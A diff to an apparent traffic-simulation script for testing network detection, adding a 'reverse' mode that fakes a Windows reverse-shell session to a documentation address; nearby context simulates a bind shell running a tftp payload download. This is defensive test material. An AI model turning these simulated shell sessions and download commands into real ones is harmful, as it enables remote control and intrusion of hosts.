@@ -11,6 +11,8 @@ poll    10.0.0.5 resolves api.example.org (DNS answer 203.0.113.9) and opens a T
 poll-ip the same without the DNS lookup and without SNI (a nameless server: a beacon)
 bind    10.0.0.5 connects to a bind shell on 10.0.0.9:4444 that greets it with the cmd.exe
         banner and runs its tftp command (a worm's shell on the host it exploited)
+reverse 10.0.0.5 connects out to 203.0.113.44:4321 and sends its cmd.exe banner; the server sends
+        whoami (a reverse shell: the host's shell, controlled from outside)
 tls     10.0.0.5 holds a TLS session to 203.0.113.8:443 (ClientHello with SNI) for 60 s and
         sends a 48-byte application-data record every 2 s (a beacon inside one TLS session)
 """
@@ -72,6 +74,12 @@ elif mode == 'bind':
             b'C:\\WINDOWS\\system32>')
     c.send(100.5, b'tftp -i 10.0.0.5 GET update.exe\r\n')
     c.reply(101.0, b'Transfer successful.\r\n')
+elif mode == 'reverse':
+    c = Conn(A, [203, 0, 113, 44], 49200, 4321, 100.0)
+    c.send(100.1, b'Microsoft Windows [Version 6.1.7601]\r\n(c) Microsoft Corporation. All rights reserved.\r\n'
+           b'\r\nC:\\Users\\victim>')
+    c.reply(100.5, b'whoami\r\n')
+    c.send(100.6, b'pc\\victim\r\n\r\nC:\\Users\\victim>')
 elif mode == 'submit':
     c = Conn(A, [198, 51, 100, 25], 40002, 587, 100.0)
     c.reply(100.05, b'220 mail.example.net ESMTP\r\n')
